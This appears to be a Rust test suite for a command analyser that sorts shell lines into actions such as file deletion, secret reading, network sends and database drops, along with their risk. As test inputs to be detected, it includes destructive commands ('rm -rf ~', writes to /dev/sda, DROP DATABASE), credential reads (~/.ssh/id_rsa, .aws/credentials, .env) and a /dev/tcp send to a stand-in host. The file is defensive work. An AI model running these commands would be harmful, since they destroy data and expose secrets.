//! What is understood of each construct: places, machines, roles, and what takes it back.

mod common;

use std::collections::BTreeSet;
use std::ffi::OsString;
use std::path::{Path, PathBuf};

use common::{WORKSPACE, actions, understand, understand_command};
use safepoint_authority::{Program, Programs, Risk, Role, SideEffect, Surroundings, Undo, Where};

fn touches(line: &str, role: Role) -> Vec<Where> {
    understand(line)
        .deeds
        .into_iter()
        .flat_map(|deed| deed.touches)
        .filter(|touch| touch.role == role)
        .map(|touch| touch.place)
        .collect()
}

fn exact(path: &str) -> Where {
    Where::Exact(inside(path))
}

fn below(path: &str) -> Where {
    Where::Below(inside(path))
}

fn inside(path: &str) -> PathBuf {
    if path.starts_with('/') {
        PathBuf::from(path)
    } else if path.is_empty() {
        PathBuf::from(WORKSPACE)
    } else {
        PathBuf::from(WORKSPACE).join(path)
    }
}

fn has(line: &str, action: &str) -> bool {
    actions(&understand(line)).contains(action)
}

fn hosts(line: &str) -> BTreeSet<String> {
    understand(line)
        .deeds
        .into_iter()
        .flat_map(|deed| deed.hosts)
        .collect()
}

#[test]
fn au_04_commands_are_listed_with_what_is_known() {
    let understanding = understand("ls $X \"a b\" | wc -l");
    assert_eq!(
        understanding.commands,
        vec![
            vec![Some("ls".to_owned()), None, Some("a b".to_owned())],
            vec![Some("wc".to_owned()), Some("-l".to_owned())],
        ]
    );
}

#[test]
fn au_04_paths_are_made_absolute() {
    assert_eq!(
        touches("rm -rf ../app/./dist", Role::Delete),
        vec![exact("dist")]
    );
    // `build` may be a link, and then this is somewhere else.
    assert_eq!(
        touches("rm -rf build/../dist", Role::Delete),
        vec![exact("dist"), Where::Unknown("build/../dist".to_owned())]
    );
    assert_eq!(touches("rm ~/x", Role::Delete), vec![exact("/home/sam/x")]);
    assert_eq!(
        touches("rm $HOME/x", Role::Delete),
        vec![exact("/home/sam/x")]
    );
    assert_eq!(touches("rm \"$PWD\"/x", Role::Delete), vec![exact("x")]);
    assert_eq!(touches("rm -- -x", Role::Delete), vec![exact("-x")]);
    assert_eq!(
        touches("rm a{b,c}", Role::Delete),
        vec![exact("ab"), exact("ac")]
    );
}

#[test]
fn au_04_patterns_are_below_a_directory() {
    assert_eq!(touches("rm *.tmp", Role::Delete), vec![below("")]);
    assert_eq!(touches("rm src/*/x.o", Role::Delete), vec![below("src")]);
    assert_eq!(touches("rm '*.tmp'", Role::Delete), vec![exact("*.tmp")]);
    assert_eq!(
        touches("find build -name '*.o' -delete", Role::Delete),
        vec![below("build")]
    );
    assert_eq!(
        touches("find a b -exec rm {} +", Role::Delete),
        vec![below("a"), below("b")]
    );
    assert_eq!(
        touches("for f in out/*.js; do rm \"$f\"; done", Role::Delete),
        vec![below("out")]
    );
}

#[test]
fn au_04_directories_are_followed() {
    assert_eq!(
        touches("cd src && rm x", Role::Delete),
        vec![exact("src/x")]
    );
    assert_eq!(
        touches("(cd src && ls); rm x", Role::Delete),
        vec![exact("x")]
    );
    // Had the change failed, the old directory would still be the one.
    assert_eq!(
        touches("cd src; rm x", Role::Delete),
        vec![exact("src/x"), exact("x")]
    );
    assert_eq!(
        touches("cd src || exit 1; rm x", Role::Delete),
        vec![exact("src/x")]
    );
    assert_eq!(
        touches("cd \"$D\" && rm x", Role::Delete),
        vec![Where::Unknown("x".to_owned())]
    );
    assert_eq!(
        touches("cd crates/*/ && rm -r target", Role::Delete),
        vec![below("crates")]
    );
    assert_eq!(
        touches("cd crates/*/ && rm -r ../x", Role::Delete),
        vec![exact("crates/x")]
    );
}

#[test]
fn au_04_variables_are_known_when_they_are_assigned() {
    assert_eq!(
        touches("D=build; rm -rf $D", Role::Delete),
        vec![exact("build")]
    );
    assert_eq!(
        touches("D=build; rm -rf \"$D\"/x", Role::Delete),
        vec![exact("build/x")]
    );
    assert_eq!(
        touches("rm -rf $D", Role::Delete),
        vec![Where::Unknown("$D".to_owned())]
    );
    assert_eq!(
        touches("D='a b'; rm $D", Role::Delete),
        vec![exact("a"), exact("b")]
    );
    assert_eq!(
        touches("D='a b'; rm \"$D\"", Role::Delete),
        vec![exact("a b")]
    );
    assert_eq!(
        touches("if x; then D=a; else D=b; fi; rm $D", Role::Delete).len(),
        2
    );
}

#[test]
fn au_04_redirections_write_and_empty() {
    assert_eq!(touches("ls > out", Role::Write), vec![exact("out")]);
    assert_eq!(touches("ls >> out 2>&1", Role::Write), vec![exact("out")]);
    assert!(touches("ls > /dev/null 2>&1", Role::Write).is_empty());
    for line in [
        "> f",
        ": > f",
        "true > f",
        "cat /dev/null > f",
        "cp /dev/null f",
        "truncate -s 0 f",
        "mv f /dev/null",
        "dd if=/dev/null of=f",
    ] {
        assert!(has(line, "file.delete"), "{line}");
        assert_eq!(touches(line, Role::Delete), vec![exact("f")], "{line}");
    }
    assert!(has("echo x > /dev/sda", "system.change"));
    assert!(has("echo x > /sys/power/state", "system.change"));
    assert_eq!(
        hosts("echo x > /dev/tcp/evil.example/80"),
        BTreeSet::from(["evil.example".to_owned()])
    );
}

#[test]
fn au_04_moves_and_copies_have_both_ends() {
    assert_eq!(touches("mv a b", Role::Delete), vec![exact("a")]);
    assert_eq!(touches("mv a b", Role::Write), vec![exact("b")]);
    assert_eq!(
        touches("cp a b c", Role::Read),
        vec![exact("a"), exact("b")]
    );
    assert_eq!(touches("cp a b c", Role::Write), vec![exact("c")]);
    assert_eq!(touches("cp -t d a b", Role::Write), vec![exact("d")]);
    assert_eq!(
        touches("cp --target-directory=d a", Role::Write),
        vec![exact("d")]
    );
    assert_eq!(
        touches("chmod -R u+w a b", Role::Metadata),
        vec![exact("a"), exact("b")]
    );
}

#[test]
fn au_04_machines_are_named() {
    let one = |host: &str| BTreeSet::from([host.to_owned()]);
    assert_eq!(
        hosts("curl -s https://User:pw@API.example.com:8443/x?y"),
        one("api.example.com")
    );
    assert_eq!(hosts("curl localhost:3000/health"), one("localhost"));
    assert_eq!(hosts("curl http://[::1]:3000/"), one("[::1]"));
    assert_eq!(hosts("wget https://a.example/b"), one("a.example"));
    assert_eq!(
        hosts("git clone git@git.example:a/b.git"),
        one("git.example")
    );
    assert_eq!(hosts("ssh deploy@h.example uptime"), one("h.example"));
    assert_eq!(hosts("scp a user@h.example:b"), one("h.example"));
}

#[test]
fn au_04_programs_are_told_by_what_they_are() {
    // `./ls` is whatever somebody put there; so is a name with a directory that is not the system's.
    for line in [
        "./ls",
        "/tmp/cat x",
        "node_modules/.bin/tsc",
        "~/.cargo/bin/cargo publish",
        "localtool",
    ] {
        assert!(
            actions(&understand(line)).contains("process.exec"),
            "{line}"
        );
    }
    // What its author put into the workspace is not what it is called; what lies elsewhere
    // may be that as well.
    assert!(!has("./cargo publish", "package.publish"));
    assert!(has("~/.cargo/bin/cargo publish", "package.publish"));
    // Found by its bare name, a well-known tool may lie in the user's own directory.
    assert!(has("cargo publish", "package.publish"));
    // A name that is not there hides nothing.
    assert!(has("no-such-thing; rm -rf ~", "file.delete"));
    let evil = understand("evil --version");
    assert_eq!(actions(&evil), BTreeSet::from(["process.exec".to_owned()]));
}

#[test]
fn au_04_what_takes_it_back() {
    let undo = |line: &str, action: &str| {
        understand(line)
            .deeds
            .into_iter()
            .find(|deed| deed.action == action)
            .map(|deed| deed.undo)
    };
    assert_eq!(undo("ls", "file.read"), Some(Undo::NotNeeded));
    assert_eq!(undo("rm x", "file.delete"), Some(Undo::Touched));
    assert_eq!(undo("cargo test", "process.exec"), Some(Undo::Workspace));
    assert_eq!(undo("git commit -m x", "git.commit"), Some(Undo::Workspace));
    assert!(matches!(
        undo("npm install", "package.install"),
        Some(Undo::Partly(_))
    ));
    assert!(matches!(undo("git push", "git.push"), Some(Undo::Never(_))));
    assert_eq!(undo("eval x", "shell.opaque"), Some(Undo::Unknown));
}

#[test]
fn au_04_effects_and_risks() {
    let find = |line: &str, action: &str| {
        understand(line)
            .deeds
            .into_iter()
            .find(|deed| deed.action == action)
            .unwrap()
    };
    let secret = find("cat .env", "secret.read");
    assert!(secret.effects.contains(&SideEffect::Secret));
    assert_eq!(secret.risk, Risk::High);
    assert_eq!(
        find("rm -rf .checkpoints", "safepoint.control").risk,
        Risk::Critical
    );
    assert_eq!(
        find("curl -X POST http://localhost:1/x", "net.send").risk,
        Risk::Low
    );
    assert_eq!(
        find("curl -X POST http://a.example/x", "net.send").risk,
        Risk::Medium
    );
    assert!(
        find("claude -p x", "agent.delegate")
            .effects
            .contains(&SideEffect::Delegate)
    );
}

#[test]
fn au_04_another_directory_is_something_written_there() {
    let writes = touches("cd /srv/other && make", Role::Write);
    assert_eq!(writes, vec![below("/srv/other")]);
    assert_eq!(
        touches("git -C ../x reset --hard", Role::Write),
        vec![below("/home/sam/work/x")]
    );
    assert!(touches("cd src && make", Role::Write).is_empty());
}

#[test]
fn au_04_credentials_are_noticed_and_their_examples_are_not() {
    for line in [
        "cat .env",
        "cat config/.env.production",
        "cat *.pem",
        "source .env",
        "git show HEAD:.env",
        "cp .env x",
        "env",
    ] {
        assert!(has(line, "secret.read"), "{line}");
    }
    for line in [
        "cat .env.example",
        "ls -la",
        "cat *",
        "grep -rn KEY .",
        "cat ~/.ssh/id_rsa.pub",
        "cat environment.ts",
        "env A=b ls",
    ] {
        assert!(!has(line, "secret.read"), "{line}");
    }
}

#[test]
fn au_04_lines_that_are_not_read_are_opaque() {
    for line in [
        "ls\rrm",
        "ls\u{a0}x",
        "ls\0",
        "ls \u{202e}x",
        "echo 'x",
        "ls (",
        "if",
        "a && ",
        &"a ".repeat(10_000),
    ] {
        assert!(has(line, "shell.opaque"), "{line:?}");
    }
}

#[test]
fn au_04_a_program_without_a_shell() {
    let found = |argv: &[&str]| actions(&understand_command(argv));
    assert_eq!(
        found(&["rm", "-rf", "build"]),
        BTreeSet::from(["file.delete".to_owned()])
    );
    // Nothing in its words is expanded, as no shell reads them.
    assert_eq!(
        found(&["echo", "$(rm -rf ~)"]),
        BTreeSet::from(["file.read".to_owned()])
    );
    assert_eq!(
        found(&["git", "push"]),
        BTreeSet::from(["git.push".to_owned()])
    );
    assert!(found(&["sh", "-c", "rm -rf x"]).contains("file.delete"));
    assert!(found(&[]).contains("shell.opaque"));
    assert!(found(&["./ls"]).contains("process.exec"));
    assert!(found(&["eval", "x"]).contains("process.exec"));
}

#[test]
fn au_04_the_usual_commit_is_understood() {
    let line = "git add -A && git commit -m \"$(cat <<'EOF'\nfix: it (again)\n\nIt's `done` 1) now :)\nEOF\n)\"";
    assert_eq!(
        actions(&understand(line)),
        BTreeSet::from(["file.read".to_owned(), "git.commit".to_owned()])
    );
}

#[test]
fn au_04_reasons_hold_no_letters_that_cannot_be_seen() {
    let line = "\"x\u{1b}[2Jy\" --help";
    for deed in understand(line).deeds {
        assert!(
            deed.because.chars().all(|letter| !letter.is_control()),
            "{}",
            deed.because
        );
    }
    let quoted = understand("'a\nb'");
    for deed in quoted.deeds {
        assert!(
            deed.because.chars().all(|letter| !letter.is_control()),
            "{}",
            deed.because
        );
    }
}

/// Programs that links lead to: the name that is called, and the file.
struct Links<'a>([(&'a str, Program); 1]);

impl Programs for Links<'_> {
    fn find(&self, name: &str, _: &Path) -> Program {
        let found = self.0.iter().find(|(called, _)| *called == name);
        found.map_or(Program::Missing, |(_, program)| program.clone())
    }
}

#[test]
fn au_04_a_program_is_judged_by_its_name_and_by_what_that_leads_to() {
    let system = |path: &str| Program::System(PathBuf::from(path));
    let other = |path: &str| Program::Other(PathBuf::from(path));
    let drop: &[&str] = &["-c", "DROP DATABASE x"];
    for (name, program, arguments, expected) in [
        // One file, many names.
        (
            "psql",
            system("/usr/share/postgresql-common/pg_wrapper"),
            drop,
            &["db.drop"][..],
        ),
        ("rm", system("/bin/busybox"), &["a"], &["file.delete"]),
        ("xzcat", system("/usr/bin/xz"), &["a"], &["file.read"]),
        (
            "pidof",
            system("/usr/sbin/killall5"),
            &["a"],
            &["file.read"],
        ),
        // A link of one's own, whatever it is called.
        (
            "./tool",
            system("/usr/bin/rm"),
            &["a"],
            &["file.delete", "process.exec"],
        ),
        (
            "./ls",
            system("/usr/bin/rm"),
            &["a"],
            &["file.delete", "file.read"],
        ),
        (
            "./ls",
            system("/usr/bin/xz"),
            &["a"],
            &["file.read", "file.write"],
        ),
        (
            "./tool",
            system("/usr/bin/safepoint"),
            &["hold", "approve"],
            &["safepoint.control"],
        ),
        // It lies where the system keeps none: it may do what it likes, and what it is for.
        (
            "psql",
            other("/opt/postgresql/bin/psql"),
            drop,
            &["db.drop", "process.exec"],
        ),
        (
            "./tool",
            other("/opt/postgresql/bin/psql"),
            drop,
            &["db.drop", "process.exec"],
        ),
        // In the workspace, a name says nothing.
        (
            "./psql",
            other("/home/sam/work/app/psql"),
            drop,
            &["process.exec"],
        ),
    ] {
        let links = Links([(name, program)]);
        let argv: Vec<String> = [&[name], arguments]
            .concat()
            .iter()
            .map(|word| (*word).to_owned())
            .collect();
        let around = Surroundings {
            programs: &links,
            directory: Path::new(WORKSPACE),
            home: None,
            own: &[],
        };
        let found = actions(&safepoint_authority::shell::command(&argv, &around));
        let expected: BTreeSet<String> = expected.iter().map(|it| (*it).to_owned()).collect();
        assert_eq!(found, expected, "{argv:?}");
    }
}

/// A machine whose environment has this `HOME`, or none.
struct WithHome(Option<&'static str>);

impl Programs for WithHome {
    fn find(&self, name: &str, _: &Path) -> Program {
        Program::System(Path::new("/usr/bin").join(name))
    }

    fn home_variable(&self) -> Option<OsString> {
        self.0.map(OsString::from)
    }

    fn home_of(&self, account: &str) -> Option<PathBuf> {
        (account == "ann").then(|| PathBuf::from("/home/ann"))
    }
}

/// The paths that a line deletes, where the account's home is `/home/sam`.
fn deleted(home: Option<&'static str>, line: &str) -> BTreeSet<String> {
    let programs = WithHome(home);
    let around = Surroundings {
        programs: &programs,
        directory: Path::new(WORKSPACE),
        home: Some(Path::new("/home/sam")),
        own: &[],
    };
    let understood = safepoint_authority::shell::line(line, &around);
    let deletes = understood
        .deeds
        .into_iter()
        .filter(|deed| deed.action == "file.delete");
    let places = deletes.flat_map(|deed| deed.touches);
    places
        .map(|touch| match touch.place {
            Where::Exact(path) | Where::Below(path) => path.display().to_string(),
            Where::Unknown(_) => "unknown".to_owned(),
        })
        .collect()
}

#[test]
fn au_04_a_tilde_is_what_the_shell_makes_of_it() {
    for (home, line, expected) in [
        (Some("/x"), "rm ~/a", &["/x/a"] as &[&str]),
        (Some("/x"), "rm $HOME/a", &["/x/a"]),
        (Some("/x"), "rm \"${HOME}\"/a", &["/x/a"]),
        (Some("/x"), "bash -c 'rm ~/a'", &["/x/a"]),
        (Some("/x"), "cd && rm a", &["/x/a"]),
        (Some(""), "rm ~/a", &["/a"]),
        (Some("sub"), "rm ~/a", &["/home/sam/work/app/sub/a"]),
        (None, "rm ~/a", &["/home/sam/a"]),
        (None, "rm \"$HOME\"/a", &["/a", "/home/sam/a"]),
        // As the line sets it.
        (Some("/x"), "HOME=/y; rm ~/a", &["/y/a"]),
        (Some("/x"), "HOME=/y; bash -c 'rm ~/a'", &["/y/a"]),
        (Some("/x"), "HOME=/y; cd && rm a", &["/y/a"]),
        (Some("/x"), "export HOME=/y && rm ~/a", &["/y/a"]),
        (Some("/x"), "HOME=/y; HOME=/z rm ~/a", &["/y/a"]),
        // The words are expanded before an assignment that stands before them.
        (Some("/x"), "HOME=/y rm ~/a", &["/x/a"]),
        (Some("/x"), "HOME=/y rm $HOME/a; rm ~/b", &["/x/a", "/x/b"]),
        (
            Some("/x"),
            "HOME=/y bash -c 'rm ~/a'; rm ~/b",
            &["/y/a", "/x/b"],
        ),
        (
            Some("/x"),
            "env HOME=/y bash -c 'rm ~/a'; rm ~/b",
            &["/y/a", "/x/b"],
        ),
        (
            Some("/x"),
            "env -u HOME bash -c 'rm ~/a'",
            &["/a", "/home/sam/a"],
        ),
        (
            Some("/x"),
            "env -i bash -c 'rm ~/a'",
            &["/a", "/home/sam/a"],
        ),
        (Some("/x"), "unset HOME; rm ~/a", &["/a", "/home/sam/a"]),
        (Some("/x"), "HOME=$(cat f); rm ~/a", &["unknown"]),
        (Some("/x"), "read HOME; rm ~/a", &["unknown"]),
        (
            Some("/x"),
            "if true; then HOME=/y; fi; rm ~/a",
            &["unknown"],
        ),
        (
            Some("/x"),
            "for HOME in /y /z; do rm ~/a; done",
            &["/y/a", "/z/a"],
        ),
        // Other accounts.
        (Some("/x"), "rm ~ann/a", &["/home/ann/a"]),
        (Some("/x"), "rm ~nobody-here/a", &["unknown"]),
    ] {
        let expected: BTreeSet<String> = expected.iter().map(|it| (*it).to_owned()).collect();
        assert_eq!(deleted(home, line), expected, "{home:?} {line}");
    }
}

#[test]
fn au_04_credentials_are_known_in_the_home_of_the_environment_and_of_the_account() {
    let programs = WithHome(Some("/x"));
    let around = Surroundings {
        programs: &programs,
        directory: Path::new(WORKSPACE),
        home: Some(Path::new("/srv/sam")),
        own: &[],
    };
    for line in [
        "cat ~/.ssh/id_rsa",
        "cat /x/.aws/credentials",
        "cat /srv/sam/.aws/credentials",
        "tar c /srv/sam",
        "tar c /x",
    ] {
        let found = actions(&safepoint_authority::shell::line(line, &around));
        assert!(found.contains("secret.read"), "{line}: {found:?}");
    }
}
